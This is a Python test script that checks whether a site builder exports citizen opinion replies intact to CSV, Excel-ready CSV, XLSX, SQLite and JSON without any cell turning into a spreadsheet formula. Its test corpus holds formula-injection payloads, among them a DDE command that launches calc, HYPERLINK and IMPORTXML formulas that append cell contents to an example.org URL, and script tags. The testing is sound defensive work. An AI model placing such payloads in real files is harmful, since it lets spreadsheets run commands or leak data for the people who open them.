#!/usr/bin/python3
"""Text that spreadsheets would run stays text in every file: hostile_text.py PROGRAM SCRATCH.

Each entry of the corpus is the reply to an opinion. It is read back from every format as it was written; in the CSV for
spreadsheets it does not begin as a formula does; in the workbook no cell is a formula; numbers beside it are numbers."""
import json
import pathlib
import shutil
import subprocess
import sys
import zipfile

from readers import Package, database, workbook

CORPUS = [
    '=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '=HYPERLINK("https://example.org/?x="&A1,"点这里")', "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")', '＝1+1', '＋1', '－1', '＠SUM(A1)', ' =1+1', '　=1+1', '\u00a0=1+1', '\t=1+1',
    '\n=1+1', "'=1+1", '"=1+1"', '"', '""', ',', ';=1+1', 'a,"b"\n"c",d', '-5', '+86 591', '1e5', '001', '2026-05-01', '0', 'TRUE', '=',
    '-', '%0A=1', '<script>alert(1)</script>', '</script><!--', ']]>', '&amp;=1', 'x' * 40_000, '字' * 33_000,
]
SITE = 'title: 测试\norganisation: 测试局\nas_of: 2026-06-30\nbase_url: https://example.org/zg/\n'
UNIT = 'title: 甲\nscope: public\ntype: office\nhead: 主任\n'
MOST = 32_767
wrong = []


def same(name, got, wanted):
    if got != wanted:
        wrong.append(f'{name}: {str(got)[:80]!r} instead of {str(wanted)[:80]!r}')


def write_site(site):
    for folder in ('units', 'opinions'):
        (site / 'content' / folder).mkdir(parents=True)
    (site / 'site.yaml').write_text(SITE, encoding='utf-8')
    (site / 'content/units/a.yaml').write_text(UNIT, encoding='utf-8')
    for number, text in enumerate(CORPUS):
        record = {'title': f'意见{number}', 'scope': 'public', 'summary': '内容', 'unit': 'a', 'disposition': 'noted', 'reason': '理由',
                  'voices': number, 'reply': text}
        lines = [f'{key}: {json.dumps(value, ensure_ascii=False)}' for key, value in record.items()]
        (site / f'content/opinions/yj-{number:03}.yaml').write_text('\n'.join(lines) + '\n', encoding='utf-8')


def main():
    program, site = pathlib.Path(sys.argv[1]).resolve(), pathlib.Path(sys.argv[2])
    shutil.rmtree(site, ignore_errors=True)
    write_site(site)
    out = site / 'public'
    subprocess.run([program, 'build', '--site', site / 'site.yaml', '--lang', 'en', '--quiet'], check=True)
    package = Package(out / 'data')
    names = [field['name'] for field in package.schemas['opinions']['fields']]
    reply, voices = names.index('reply'), names.index('voices')
    _, plain = package.raw('opinions')
    _, excel = package.raw('opinions', '.excel.csv', 'utf-8-sig')
    sheet = workbook(out / 'data/all.xlsx')[0]['意见']
    base = database(out / 'data/data.sqlite').execute('SELECT reply, voices, typeof(voices) FROM opinions ORDER BY id').fetchall()
    records = json.loads((out / 'data/opinions.json').read_text(encoding='utf-8'))
    for number, text in enumerate(CORPUS):
        same(f'csv {number}', plain[number][reply], text)
        same(f'json {number}', records[number]['reply'], text)
        same(f'sqlite {number}', base[number], (text, number, 'integer'))
        same(f'voices {number}', package.rows('opinions')[number][voices], number)
        got = excel[number][reply]
        same(f'excel.csv {number}', got.removeprefix("'") if not text.startswith("'") else got, text)
        if got.strip(' \t\r\n\u3000\u00a0')[:1] in tuple('=+-@＝＋－＠') or got[:1] in ('\t', '\n', '\r'):
            wrong.append(f'excel.csv {number}: begins as a formula: {got[:20]!r}')
        same(f'excel.csv voices {number}', excel[number][voices], str(number))
        value, kind, _ = sheet[number + 1][reply]
        same(f'xlsx {number}: type', kind in ('s', 'inlineStr'), True)
        if len(text) <= MOST:
            same(f'xlsx {number}', value, text)
        else:
            same(f'xlsx {number}: cut', (len(value) <= MOST, value[:30_000]), (True, text[:30_000]))
        same(f'xlsx voices {number}', (sheet[number + 1][voices][:2]), (number, 'n'))
    with zipfile.ZipFile(out / 'data/all.xlsx') as book:
        for name in book.namelist():
            if b'<f>' in book.read(name):
                wrong.append(f'{name} holds a formula')
    print('\n'.join(wrong[:30]) or f'{len(CORPUS)} hostile texts read back from every format')
    return 1 if wrong else 0


if __name__ == '__main__':
    sys.exit(main())
